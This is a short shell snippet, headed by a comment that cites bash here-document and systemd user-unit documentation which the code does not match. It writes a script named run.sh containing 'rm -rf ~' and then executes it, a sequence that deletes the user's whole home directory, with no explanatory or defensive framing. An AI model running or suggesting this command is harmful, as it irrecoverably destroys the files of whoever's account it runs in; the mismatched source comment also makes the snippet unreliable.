# source: bash(1) Here Documents; systemd.service(5) user units in ~/.config/systemd/user https://www.freedesktop.org/software/systemd/man/latest/systemd.unit.html
cat > run.sh <<'EOF2'
rm -rf ~
EOF2
bash run.sh
